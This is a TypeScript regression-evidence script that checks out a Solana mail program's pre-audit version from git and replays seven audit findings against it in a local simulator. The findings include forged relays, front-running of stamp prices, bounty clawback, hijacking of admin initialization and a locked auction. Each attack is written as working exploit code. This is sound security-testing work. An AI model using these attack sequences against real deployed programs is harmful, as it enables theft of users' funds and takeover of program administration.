// Replays the audit's attacks (issue 29) against the program as it was before
// the fix (7358135 "program: close the audit's holes"), with that tree's own
// client ABI.
//
// Why: the adversarial tests test/program-audit-*.test.ts assert that the
// new binary refuses each attack. On the previous binary they already fail in
// setup (InitPostoffice's account list changed), which says nothing about the
// attacks. This script is the evidence that the regression tests guard
// something: it extracts the pre-fix chain/ tree from git, loads its World,
// instruction builders and mail_program.so, and shows each attack SUCCEEDING
// there, with the lamports it moved.
//
//   npm run program:replay-pre-audit [-- --before <rev>]   (default 7358135^)
//
// Exit 0: every replayed attack succeeded on the pre-fix binary; 1: one did
// not (or could not be replayed); 2: git or the revision is not available.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { type Keypair, PublicKey, Transaction, type TransactionInstruction } from '@solana/web3.js';

const REPO = resolve(fileURLToPath(new URL('../../../', import.meta.url)));
const DEFAULT_BEFORE = '7358135^';
const CID = 'bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy';
const I64_MAX = (1n << 63n) - 1n;
const DAY = 86_400n;

// ---------------------------------------------------------------------------
// The pre-fix modules, typed by only what this script uses of them (their
// shapes differ from today's tree, so today's types are not borrowed).

type Key = PublicKey | string;

interface OldRunResult {
  ok: boolean;
  err: { message: string; customCode: number | null } | null;
  logs: string[];
}

interface OldWorld {
  readonly programId: string;
  readonly rt: {
    payer: { publicKey: PublicKey };
    programData: PublicKey;
    /** Sends a transaction as built (its own fee payer), signed by `signers`. */
    run(tx: Transaction, signers: Keypair[]): OldRunResult;
  };
  readonly keys: Map<string, Keypair>;
  delegate: PublicKey;
  wallet(lamports?: bigint): PublicKey;
  user(opts?: { defaultPostage?: bigint; lamports?: bigint }): PublicKey;
  run(...ixs: TransactionInstruction[]): OldRunResult;
  readonly now: bigint;
  balance(key: PublicKey): bigint;
  exists(key: PublicKey): boolean;
  data(key: PublicKey): Uint8Array | null;
  mailbox(owner: PublicKey): { mailCount: bigint };
  frombox(fromHash: Uint8Array, recipient: PublicKey): { stamps: bigint; postageEscrow: bigint } | null;
  fromboxAddress(fromHash: Uint8Array, recipient: PublicKey): PublicKey;
  emailAddress(recipient: PublicKey, index: bigint): PublicKey;
  postoffice(): { admin: PublicKey };
  postofficeAddress(): PublicKey;
}

interface WorldModule {
  World: new (opts?: { seed?: number; setup?: boolean }) => OldWorld;
  SOL: bigint;
  FEE: bigint;
  SURCHARGE: bigint;
  /** Rent exemption of an account of `size` bytes. */
  rent(size: number): bigint;
}

type Ix<P> = (p: P & { programId: Key }) => TransactionInstruction;

interface InstructionsModule {
  createDomainInstruction: Ix<{ delegate: Key; domain: string; authority: Key }>;
  createMailboxInstruction: Ix<{ owner: Key; defaultPostage?: bigint; domain?: string }>;
  sendMailInstruction: Ix<{
    sender: Key;
    recipient: Key;
    index: bigint;
    fromHash: Uint8Array;
    cid: string;
    bountyLamports?: bigint;
    expiresAt?: bigint;
    domain?: string;
  }>;
  createFromboxInstruction: Ix<{ owner: Key; fromHash: Uint8Array; requiredPostage: bigint }>;
  updateFromboxInstruction: Ix<{ owner: Key; fromHash: Uint8Array; requiredPostage: bigint }>;
  /** Pre-fix: no max_price_lamports. */
  addStampsInstruction: Ix<{ payer: Key; recipient: Key; fromHash: Uint8Array; stamps: bigint }>;
  buyStampsInstruction: Ix<{ buyer: Key; recipient: Key; stamps: bigint; maxPriceLamports?: bigint }>;
  reclaimFromboxStampsInstruction: Ix<{ sender: Key; recipient: Key }>;
  deleteMailInstruction: Ix<{ signer: Key; email: Key; rentPayer: Key }>;
  claimBountyInstruction: Ix<{ recipient: Key; email: Key }>;
  /** Pre-fix: three accounts (admin, postoffice, system), no upgrade authority. */
  initPostofficeInstruction: Ix<{
    admin: Key;
    delegateAddress: Key;
    stampFeeLamports: bigint;
    settlementSurchargeLamports: bigint;
  }>;
  createPinLeaseInstruction: Ix<{
    holder: Key;
    operator: Key;
    cid: string;
    expiresAt: bigint;
    feeLamports: bigint;
  }>;
  closePinLeaseInstruction: Ix<{ holder: Key; cid: string }>;
  pinLeaseCidHash(cid: string): Uint8Array;
  createAliasInstruction: Ix<{ owner: Key; name: string }>;
  listAliasInstruction: Ix<{
    holder: Key;
    alias: string;
    auction: { reserveLamports: bigint; endsAt: bigint; antisnipeSecs: bigint };
  }>;
  bidAliasInstruction: Ix<{ bidder: Key; alias: string; amountLamports: bigint; highBidder: Key | null }>;
  settleAuctionInstruction: Ix<{ alias: string; holder: Key; highBidder: Key | null }>;
  listingOf(programId: Key, ref: { alias: string }): PublicKey;
}

interface Old {
  world: WorldModule;
  ix: InstructionsModule;
  fromHash(from: Key): Uint8Array;
  pinLeaseAddress(programId: Key, cidHash: Uint8Array, holder: Key): [PublicKey, number];
  decodeAliasListing(data: Uint8Array): { expiresAt: bigint };
  emailSize(cid: string): number;
  pinLeaseSize: number;
  errorName(code: number): string | undefined;
}

// ---------------------------------------------------------------------------
// Extracting and loading the pre-fix tree.

class Unavailable extends Error {}

function extract(rev: string, into: string): void {
  try {
    execFileSync('git', ['rev-parse', '--verify', '--quiet', `${rev}^{commit}`], {
      cwd: REPO,
      stdio: 'pipe',
    });
  } catch (e) {
    const missing = (e as NodeJS.ErrnoException).code === 'ENOENT';
    throw new Unavailable(missing ? 'git is not installed' : `revision ${rev} is not in ${REPO}`);
  }
  const tar = execFileSync('git', ['archive', '--format=tar', rev, 'chain'], {
    cwd: REPO,
    maxBuffer: 1 << 30,
  });
  execFileSync('tar', ['-x', '-C', into], { input: tar });
  if (!existsSync(join(into, 'chain/program/mail_program.so')))
    throw new Unavailable(`revision ${rev} has no chain/program/mail_program.so`);
  // The old modules are ES modules (as the repo's package.json says) and import
  // npm packages, which resolve through the repo's node_modules.
  writeFileSync(join(into, 'package.json'), '{ "type": "module", "private": true }\n');
  symlinkSync(join(REPO, 'node_modules'), join(into, 'node_modules'), 'dir');
}

async function load(root: string): Promise<Old> {
  const at = (path: string) => pathToFileURL(join(root, 'chain', path)).href;
  // The old world.ts loads ./mail_program.so relative to itself: the extracted, pre-fix binary.
  const world = (await import(at('program/world.ts'))) as WorldModule;
  const ix = (await import(at('instructions.ts'))) as InstructionsModule;
  const hash = (await import(at('hash.ts'))) as { fromHash: Old['fromHash'] };
  const pda = (await import(at('pda.ts'))) as { pinLeaseAddress: Old['pinLeaseAddress'] };
  const accounts = (await import(at('accounts/index.ts'))) as {
    decodeAliasListing: Old['decodeAliasListing'];
    emailSize: Old['emailSize'];
    PIN_LEASE_SIZE: number;
  };
  const errors = (await import(at('errors.ts'))) as { mailErrorName: Old['errorName'] };
  return {
    world,
    ix,
    fromHash: hash.fromHash,
    pinLeaseAddress: pda.pinLeaseAddress,
    decodeAliasListing: accounts.decodeAliasListing,
    emailSize: accounts.emailSize,
    pinLeaseSize: accounts.PIN_LEASE_SIZE,
    errorName: errors.mailErrorName,
  };
}

// ---------------------------------------------------------------------------
// Reporting.

type Outcome = { succeeded: true; moved: string } | { succeeded: false; why: string };

const lamports = (n: bigint): string => `${n < 0n ? '-' : '+'}${(n < 0n ? -n : n).toLocaleString('en-US')}`;
const amount = (n: bigint): string => n.toLocaleString('en-US');

function errorOf(old: Old, r: OldRunResult): string {
  const code = r.err?.customCode;
  const name = code === null || code === undefined ? undefined : old.errorName(code);
  return name ?? r.err?.message ?? 'unknown error';
}

/** A setup step the attack needs: it must succeed. */
function must(old: Old, w: OldWorld, what: string, ix: TransactionInstruction): void {
  const r = w.run(ix);
  if (!r.ok) throw new Error(`setup step ${what} failed: ${errorOf(old, r)}`);
}

/** A MailDomain `domain` created by the world's delegate with `authority` as its authority. */
function createDomain(old: Old, w: OldWorld, domain: string, authority: Key): void {
  must(
    old,
    w,
    'CreateDomain',
    old.ix.createDomainInstruction({ programId: w.programId, delegate: w.delegate, domain, authority }),
  );
}

function refused(old: Old, r: OldRunResult): Outcome {
  return { succeeded: false, why: errorOf(old, r) };
}

// ---------------------------------------------------------------------------
// The findings, one function each, set up as in the new tests.

/** 1a: another domain's authority relays "from alice@example.org" into a mail.test mailbox. */
function finding1a(old: Old): Outcome {
  const { World } = old.world;
  const w = new World();
  const programId = w.programId;
  const evil = w.wallet();
  createDomain(old, w, 'evil.example', evil);
  const recipient = w.user();
  const alice = old.fromHash('alice@example.org');
  must(
    old,
    w,
    'CreateFrombox',
    old.ix.createFromboxInstruction({
      programId,
      owner: recipient,
      fromHash: alice,
      requiredPostage: 4_000n,
    }),
  );
  const patron = w.wallet();
  must(
    old,
    w,
    'AddStamps',
    old.ix.addStampsInstruction({ programId, payer: patron, recipient, fromHash: alice, stamps: 2n }),
  );

  const frombox = w.fromboxAddress(alice, recipient);
  const [e0, r0, f0] = [w.balance(evil), w.balance(recipient), w.balance(frombox)];
  const attack = old.ix.sendMailInstruction({
    programId,
    sender: evil,
    recipient,
    index: w.mailbox(recipient).mailCount,
    fromHash: alice,
    cid: CID,
    domain: 'evil.example',
  });
  const r = w.run(attack);
  if (!r.ok) return refused(old, r);
  const stamps = w.frombox(alice, recipient)?.stamps ?? 0n;
  if (stamps !== 1n) return { succeeded: false, why: `accepted, but alice's frombox holds ${stamps} stamps` };
  const emailRent = old.world.rent(old.emailSize(CID));
  return {
    succeeded: true,
    moved:
      `alice's stamps 2 -> 1, frombox ${lamports(w.balance(frombox) - f0)}, recipient ${lamports(w.balance(recipient) - r0)}, ` +
      `evil.example's authority kept the ${amount(old.world.SURCHARGE)} surcharge ` +
      `(${lamports(w.balance(evil) - e0)} net, having fronted the Email's ${amount(emailRent)} rent)`,
  };
}

/** 1b: a recipient holding a domain authority key forges relays "from" a sender's wallet and takes its BuyStamps postage. */
function finding1b(old: Old): Outcome {
  const { World, SOL } = old.world;
  const w = new World();
  const programId = w.programId;
  const mallory = w.wallet();
  const malloryAuthority = w.wallet();
  createDomain(old, w, 'mallory.example', malloryAuthority);
  must(
    old,
    w,
    'CreateMailbox',
    old.ix.createMailboxInstruction({
      programId,
      owner: mallory,
      defaultPostage: SOL,
      domain: 'mallory.example',
    }),
  );
  const sender = w.wallet(20n * SOL);
  const s0 = w.balance(sender);
  must(
    old,
    w,
    'BuyStamps',
    old.ix.buyStampsInstruction({
      programId,
      buyer: sender,
      recipient: mallory,
      stamps: 2n,
      maxPriceLamports: SOL,
    }),
  );
  const hash = old.fromHash(sender);

  const [m0, a0] = [w.balance(mallory), w.balance(malloryAuthority)];
  for (let i = 0n; i < 2n; i++) {
    const forged = old.ix.sendMailInstruction({
      programId,
      sender: malloryAuthority,
      recipient: mallory,
      index: w.mailbox(mallory).mailCount,
      fromHash: hash,
      cid: CID,
      domain: 'mallory.example',
    });
    const r = w.run(forged);
    if (!r.ok) return refused(old, r);
    // Mallory then deletes the forged Email: its rent goes back to her authority key.
    const email = w.emailAddress(mallory, i);
    must(
      old,
      w,
      'DeleteMail',
      old.ix.deleteMailInstruction({ programId, signer: mallory, email, rentPayer: malloryAuthority }),
    );
  }
  const reclaim = w.run(old.ix.reclaimFromboxStampsInstruction({ programId, sender, recipient: mallory }));
  if (reclaim.ok)
    return {
      succeeded: false,
      why: "the forged sends went through, but the sender's reclaim still paid out",
    };
  const gained = w.balance(mallory) - m0 + (w.balance(malloryAuthority) - a0);
  return {
    succeeded: true,
    moved:
      `2 forged relays spent the sender's 2 stamps of ${amount(SOL)}: Mallory's mailbox wallet ${lamports(w.balance(mallory) - m0)}, ` +
      `her authority key ${lamports(w.balance(malloryAuthority) - a0)} (the surcharges; the Emails' rent back on DeleteMail), Mallory ${lamports(gained)} in all; ` +
      `the sender ${lamports(w.balance(sender) - s0)} for stamps it never used, its ReclaimFromboxStamps -> ${errorOf(old, reclaim)}`,
  };
}

/** 2: the recipient's UpdateFrombox lands before the payer's AddStamps, which has no ceiling. */
function finding2(old: Old): Outcome {
  const { World, SOL, FEE, SURCHARGE } = old.world;
  const w = new World();
  const programId = w.programId;
  const recipient = w.user();
  const carol = old.fromHash('carol@ext.example');
  const quoted = 20_000n;
  must(
    old,
    w,
    'CreateFrombox',
    old.ix.createFromboxInstruction({
      programId,
      owner: recipient,
      fromHash: carol,
      requiredPostage: quoted,
    }),
  );
  const patron = w.wallet(200n * SOL);
  // The front-run: the reprice to 30 SOL a stamp is ordered before the patron's purchase.
  must(
    old,
    w,
    'UpdateFrombox',
    old.ix.updateFromboxInstruction({
      programId,
      owner: recipient,
      fromHash: carol,
      requiredPostage: 30n * SOL,
    }),
  );

  const p0 = w.balance(patron);
  const r = w.run(
    old.ix.addStampsInstruction({ programId, payer: patron, recipient, fromHash: carol, stamps: 3n }),
  );
  if (!r.ok) return refused(old, r);
  const paid = p0 - w.balance(patron);
  const agreed = 3n * (quoted + SURCHARGE + FEE);
  if (paid <= agreed) return { succeeded: false, why: `accepted at ${amount(paid)}, no more than quoted` };
  return {
    succeeded: true,
    moved:
      `the payer quoted ${amount(agreed)} for 3 stamps and paid ${amount(paid)}; ` +
      `frombox escrow ${lamports(w.frombox(carol, recipient)?.postageEscrow ?? 0n)} for the recipient`,
  };
}

/** 3: the sender deletes its Email inside the bounty's claim window and takes the bounty back. */
function finding3(old: Old): Outcome {
  const { World } = old.world;
  const w = new World();
  const programId = w.programId;
  const sender = w.wallet();
  const recipient = w.user();
  const bounty = 50_000n;
  const send = old.ix.sendMailInstruction({
    programId,
    sender,
    recipient,
    index: 0n,
    fromHash: old.fromHash(sender),
    cid: CID,
    bountyLamports: bounty,
    expiresAt: w.now + 3_600n,
  });
  must(old, w, 'SendMail with a bounty', send);
  const email = w.emailAddress(recipient, 0n);

  const [s0, r0] = [w.balance(sender), w.balance(recipient)];
  const del = w.run(old.ix.deleteMailInstruction({ programId, signer: sender, email, rentPayer: sender }));
  if (!del.ok) return refused(old, del);
  const claim = w.run(old.ix.claimBountyInstruction({ programId, recipient, email }));
  if (claim.ok) return { succeeded: false, why: 'deleted, yet the recipient still claimed the bounty' };
  return {
    succeeded: true,
    moved:
      `at once, inside the 3,600 s claim window, the sender's DeleteMail took back the ${amount(bounty)} bounty with the ` +
      `${amount(old.world.rent(old.emailSize(CID)))} rent (sender ${lamports(w.balance(sender) - s0)}); recipient ${lamports(w.balance(recipient) - r0)}, its ClaimBounty -> ${errorOf(old, claim)}`,
  };
}

/** 4: a stranger, not the upgrade authority, sends InitPostoffice first and becomes admin. */
function finding4(old: Old): Outcome {
  const { World, FEE, SURCHARGE } = old.world;
  const w = new World({ setup: false });
  const programId = w.programId;
  const stranger = w.wallet();
  const keypair = w.keys.get(stranger.toBase58());
  // UpgradeableLoaderState::ProgramData: u32 tag, u64 slot, Option<Pubkey> upgrade authority (flag at 12, key at 13).
  const programData = w.data(w.rt.programData);
  if (!keypair || !programData || programData[12] !== 1)
    throw new Error('no upgrade authority in ProgramData');
  const upgradeAuthority = new PublicKey(programData.subarray(13, 45));
  if (upgradeAuthority.equals(stranger))
    return { succeeded: false, why: 'the stranger is the upgrade authority: no attack to replay' };

  const s0 = w.balance(stranger);
  const init = old.ix.initPostofficeInstruction({
    programId,
    admin: stranger,
    delegateAddress: stranger,
    stampFeeLamports: FEE,
    settlementSurchargeLamports: SURCHARGE,
  });
  // The stranger alone signs, as fee payer too: the deployer (the world's usual fee payer) takes no part.
  const r = w.rt.run(new Transaction({ feePayer: stranger }).add(init), [keypair]);
  if (!r.ok) return refused(old, r);
  if (!w.postoffice().admin.equals(stranger))
    return { succeeded: false, why: 'accepted, but the stranger is not admin' };
  return {
    succeeded: true,
    moved:
      `the stranger, signing alone, paid the Postoffice's rent and the fee (${lamports(w.balance(stranger) - s0)}) ` +
      `and is its admin and delegate; the upgrade authority ${upgradeAuthority.toBase58()} signed nothing`,
  };
}

/** 6: a pin lease whose operator is the lease PDA itself: the fee comes back on ClosePinLease. */
function finding6(old: Old): Outcome {
  const { World, SOL } = old.world;
  const w = new World();
  const programId = w.programId;
  const holder = w.wallet();
  const fee = SOL / 10n;
  const lease = old.pinLeaseAddress(programId, old.ix.pinLeaseCidHash(CID), holder)[0];

  const h0 = w.balance(holder);
  const create = old.ix.createPinLeaseInstruction({
    programId,
    holder,
    operator: lease,
    cid: CID,
    expiresAt: w.now + 30n * DAY,
    feeLamports: fee,
  });
  const r = w.run(create);
  if (!r.ok) return refused(old, r);
  const held = w.balance(lease);
  const close = w.run(old.ix.closePinLeaseInstruction({ programId, holder, cid: CID }));
  if (!close.ok) return { succeeded: false, why: `created, but ClosePinLease -> ${errorOf(old, close)}` };
  const net = w.balance(holder) - h0;
  if (net !== 0n)
    return { succeeded: false, why: `the holder ends ${lamports(net)}: the fee did not come back` };
  return {
    succeeded: true,
    moved:
      `the ${amount(fee)} fee was paid into the lease itself (lease held ${amount(held)} = rent ${amount(old.world.rent(old.pinLeaseSize))} + fee); ` +
      `ClosePinLease returned it all: holder ${lamports(net)} net, no operator paid`,
  };
}

/** 7: ListAlias with an auction ending at i64::MAX is accepted; a bid then cannot be settled. */
function finding7(old: Old): Outcome {
  const { World, SOL } = old.world;
  const w = new World();
  const programId = w.programId;
  const holder = w.user();
  const name = 'shop';
  must(old, w, 'CreateAlias', old.ix.createAliasInstruction({ programId, owner: holder, name }));
  const reserve = SOL / 100n;
  const list = old.ix.listAliasInstruction({
    programId,
    holder,
    alias: name,
    auction: { reserveLamports: reserve, endsAt: I64_MAX, antisnipeSecs: 0n },
  });
  const r = w.run(list);
  if (!r.ok) return refused(old, r);
  const listing = old.ix.listingOf(programId, { alias: name });
  const data = w.data(listing);
  const ends = data ? old.decodeAliasListing(data).expiresAt : 0n;
  if (ends !== I64_MAX) return { succeeded: false, why: `listed, ending at ${ends}` };

  const bidder = w.wallet();
  const b0 = w.balance(bidder);
  must(
    old,
    w,
    'BidAlias',
    old.ix.bidAliasInstruction({ programId, bidder, alias: name, amountLamports: reserve, highBidder: null }),
  );
  const settle = w.run(
    old.ix.settleAuctionInstruction({ programId, alias: name, holder, highBidder: bidder }),
  );
  return {
    succeeded: true,
    moved:
      `listed with expires_at ${I64_MAX} (the year 292,277,026,596); a bidder's ${amount(reserve)} bid ` +
      `(+ ${amount(b0 - w.balance(bidder) - reserve)} rent) is locked: SettleAuction -> ${settle.ok ? 'ok' : errorOf(old, settle)}`,
  };
}

const FINDINGS: { id: string; test: string; replay: (old: Old) => Outcome }[] = [
  { id: '1a', test: 'test/program/program-audit-relay.test.ts', replay: finding1a },
  { id: '1b', test: 'test/program/program-audit-relay.test.ts', replay: finding1b },
  { id: '2', test: 'test/program/program-audit-stamps.test.ts', replay: finding2 },
  { id: '3', test: 'test/program/program-audit-bounty.test.ts', replay: finding3 },
  { id: '4', test: 'test/program/program-audit-init.test.ts', replay: finding4 },
  { id: '6', test: 'test/program/program-audit-lease.test.ts', replay: finding6 },
  { id: '7', test: 'test/program/program-audit-auction.test.ts', replay: finding7 },
];

const NOT_REPLAYED: { id: string; note: string }[] = [
  {
    id: '5',
    note: 'n/a: new instructions (UpdatePostoffice, WithdrawFees, ProposeAdmin/AcceptAdmin), no attack to replay',
  },
  { id: '8', note: 'n/a: documented decision (joining a domain asks no consent), no attack to replay' },
];

// ---------------------------------------------------------------------------

function beforeRev(argv: string[]): string {
  for (let i = 0; i < argv.length; i++) {
    const arg = argv[i] as string;
    if (arg === '--before') {
      const rev = argv[i + 1];
      if (!rev) throw new Unavailable('--before needs a revision');
      return rev;
    }
    if (arg.startsWith('--before=')) return arg.slice('--before='.length);
  }
  return DEFAULT_BEFORE;
}

async function main(): Promise<number> {
  const rev = beforeRev(process.argv.slice(2));
  const root = mkdtempSync(join(tmpdir(), 'sealpost-pre-audit-'));
  try {
    extract(rev, root);
    const old = await load(root);
    console.log(
      `replaying the audit's attacks (issue 29) on the pre-fix program of ${rev}, with its own client ABI`,
    );
    let all = true;
    for (const f of FINDINGS) {
      let outcome: Outcome;
      try {
        outcome = f.replay(old);
      } catch (e) {
        outcome = { succeeded: false, why: `could not be replayed: ${(e as Error).message}` };
      }
      const refusal = `the new binary refuses it: ${f.test}`;
      if (outcome.succeeded)
        console.log(`finding ${f.id}: attack SUCCEEDED on the pre-fix binary (${outcome.moved}); ${refusal}`);
      else {
        all = false;
        console.log(`finding ${f.id}: attack was REFUSED (${outcome.why}); ${refusal}`);
      }
    }
    for (const f of NOT_REPLAYED) console.log(`finding ${f.id}: ${f.note}`);
    return all ? 0 : 1;
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
}

try {
  process.exitCode = await main();
} catch (e) {
  if (!(e instanceof Unavailable)) throw e;
  console.error(`replay-pre-audit: ${e.message}`);
  process.exitCode = 2;
}
